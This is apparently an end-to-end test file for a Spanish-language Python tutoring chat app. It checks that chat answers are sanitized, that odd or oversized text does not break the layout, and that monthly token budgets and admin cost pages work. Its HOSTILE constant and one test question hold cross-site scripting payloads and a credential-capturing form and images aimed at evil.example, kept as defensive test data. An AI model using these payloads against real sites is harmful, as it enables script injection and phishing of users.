import type { Page } from 'playwright-core'
import { afterAll, describe, expect, it } from 'vitest'
import { startModelServer } from '~/testing/models/model-server'
import { type Device, startJourney } from '../support/browser/journey'
import { ask, clipboard, lastAnswer, lastMessage, messages, untilAnswered, untilReady } from '../support/chat/chat'
import { accessibilityFaults, overflow } from '../support/pages/page-faults'
import { registerByApi, signInByApi } from '../support/people/people'

const model = await startModelServer()
const { newPage, product } = startJourney({
  isAlone: true,
  env: {
    MENTOR_BASIC_MODEL: 'openai-compatible/prueba',
    OPENAI_BASE_URL: model.baseUrl,
    MODEL_PRICES: 'openai-compatible/prueba=3/15',
    MENTOR_MONTHLY_TOKENS_PER_PERSON: '32000',
  },
})
afterAll(() => model.stop())

/** A page of somebody new, with an empty conversation. */
async function open(device: Device = 'desktop'): Promise<Page> {
  const page = await newPage(device)
  await registerByApi(page)
  await page.goto('/mentor-basic')
  await untilReady(page)
  return page
}

/** Asks the model, which answers this, streamed in small pieces. */
async function answer(page: Page, text: string, usage?: object) {
  model.script({ kind: 'tokens', tokens: text.match(/[\s\S]{1,7}/g) ?? [], delayMs: 1, usage })
  await ask(page, 'Enséñame algo')
  await untilAnswered(page)
}

/** Nothing of it may run; each would leave its mark. */
const HOSTILE = `Hola <b>negrita</b> <script>document.title = 'robado'</script>

<img src="https://evil.example/pixel.png" onerror="document.title='robado'">

<iframe srcdoc="<script>parent.document.title='robado'</script>"></iframe>
<svg onload="document.title='robado'"><a href="javascript:document.title='robado'">x</a></svg>
<style>body { display: none }</style>
<form action="https://evil.example"><input name="clave"><button>Enviar datos</button></form>

![espía](https://evil.example/espia.png) y ![otra][imagen]

[imagen]: https://evil.example/otra.png

[pulsa aquí](javascript:document.title='robado') · [datos](data:text/html,<script>alert(1)</script>) ·
[banco](https://banco.example@evil.example) · [manual](https://docs.python.org/es/3/) · [correo](mailto:hola@correo.example)
· <https://docs.python.org> · [relativo](/logout) · [doble](//evil.example)
`

describe('a hostile answer, on a phone', () => {
  it('CHAT-13, CHAT-14 is text: nothing runs, nothing is loaded, and only plain links are links', async () => {
    const page = await open('phone')
    await answer(page, HOSTILE)
    for (const round of ['streamed', 'from the history']) {
      const shownAnswer = lastAnswer(page)
      const text = await shownAnswer.textContent()
      for (const shown of ["<script>document.title = 'robado'</script>", '<iframe srcdoc=', 'espía', 'pulsa aquí'])
        expect(text, round).toContain(shown)
      expect(await shownAnswer.locator('script, img, iframe, svg, style, form, input, b, object, embed').count()).toBe(
        0,
      )
      const links = await shownAnswer
        .locator('a')
        .evaluateAll((all) => all.map((link) => ['href', 'rel', 'target'].map((name) => link.getAttribute(name))))
      const safe = ['noopener noreferrer nofollow', '_blank']
      expect(links).toEqual([
        ['https://docs.python.org/es/3/', ...safe],
        ['mailto:hola@correo.example', ...safe],
        ['https://docs.python.org/', ...safe],
      ])
      expect(await page.title()).toBe('Mentor Basic · PyMentor')
      await page.reload()
      await untilReady(page)
    }
  })
})

describe('an answer of odd form', () => {
  it('with a table far too wide, or a word and a line of code without end, does not widen the page', async () => {
    const page = await open('phone')
    const row = (text: string) => `| ${Array.from({ length: 30 }, (_, at) => `${text}${at}`).join(' | ')} |`
    const table = [row('columna'), row('---').replace(/\d/g, ''), ...Array(12).fill(row('un_valor_muy_largo_'))].join(
      '\n',
    )
    await answer(page, `Mira:\n\n${table}\n\nFin.`)
    expect(await lastAnswer(page).locator('tbody tr').count()).toBe(12)
    expect(await overflow(page)).toEqual([])

    await answer(
      page,
      `${'a'.repeat(2_000)}\n\n\`${'b'.repeat(500)}\`\n\n\`\`\`python\nx = '${'c'.repeat(3_000)}'\n\`\`\``,
    )
    expect(await overflow(page)).toEqual([])
  })

  it('never closed, nested a thousand deep or of every sort of letter, is shown whole; so is a hostile question', async () => {
    const page = await open()
    await answer(page, 'Así:\n\n```python\nfor n in range(3):\n    print(n)  # <b>ojo</b>')
    const code = lastAnswer(page).locator('figure')
    expect(await code.locator('code').textContent()).toBe('for n in range(3):\n    print(n)  # <b>ojo</b>')
    await code.getByRole('button', { name: 'Copiar' }).click()
    await code.getByRole('button', { name: 'Copiado' }).waitFor()
    expect(await clipboard(page)).toBe('for n in range(3):\n    print(n)  # <b>ojo</b>')

    await answer(page, `${'>'.repeat(3_000)} hondo\n\n${'- '.repeat(200)}también\n\n${'['.repeat(2_000)}`)
    await lastAnswer(page).getByText('hondo').waitFor({ state: 'attached' })

    await answer(page, 'Emoji 👩‍💻, acentos áéñ€, tabla\r\nfin de línea y \u0000nulo, \u202Ereves\u202C.')
    await lastAnswer(page).getByText('nulo').waitFor()
    const text = await lastAnswer(page).textContent()
    for (const part of ['👩‍💻', 'áéñ€', 'fin de línea', 'nulo']) expect(text).toContain(part)
    await page.reload()
    await lastAnswer(page).getByText('nulo').waitFor()
    expect(await lastAnswer(page).textContent()).toBe(text)

    await page.request.post('/api/chat/create', { data: { type: 'basic', title: 'Nuevo chat' } })
    await page.goto('/chat')
    await untilReady(page)
    const question = '<img src=x onerror=alert(1)>\n    **no** <script>alert(2)</script>'
    await ask(page, question)
    await untilAnswered(page)
    expect(await messages(page).first().locator('p').last().textContent()).toBe(question)
    await page.getByRole('heading', { level: 1, name: '<img src=x onerror=alert(1)>' }).waitFor()
    await page.reload()
    expect(await messages(page).first().locator('p').last().textContent()).toBe(question)
  })
})

describe('a budget of tokens', () => {
  it('that somebody has used up is said kindly above the embedded mentor’s answer; the owner sees what it cost', async () => {
    const page = await open()
    await answer(page, 'Un bucle `for` recorre una lista.', { prompt_tokens: 20_000, completion_tokens: 8_000 })
    await lastMessage(page)
      .getByText(/prueba$/)
      .waitFor()
    await ask(page, '¿Qué es una variable?')
    await untilAnswered(page)
    const last = lastMessage(page)
    await last.getByText('Este mes ya has gastado tu parte de los modelos').waitFor()
    await last.getByText(/el mentor incorporado$/).waitFor()

    const owner = await newPage('phone')
    await signInByApi(owner, product().accounts.admin)
    await owner.goto('/admin/costes')
    await owner.getByRole('heading', { level: 1, name: 'Costes' }).waitFor()
    await owner.getByRole('img', { name: /^Coste por día: .* en 30 días, máximo / }).waitFor()
    await owner.getByRole('row', { name: /openai-compatible\/prueba Mentor Basic/ }).waitFor()
    await owner.getByText('Por persona, 32.000 al mes.', { exact: false }).waitFor()
    expect(await overflow(owner)).toEqual([])
    expect(await accessibilityFaults(owner)).toEqual([])
    await owner.getByRole('link', { name: '12 meses' }).click()
    await owner.getByRole('img', { name: /^Coste por mes: / }).waitFor()
    const csv = await owner.getByRole('link', { name: /^Descargar CSV de los costes de 12 meses/ }).getAttribute('href')
    expect(await (await owner.request.get(csv ?? '')).text()).toContain(';openai-compatible/prueba;')
  })
})
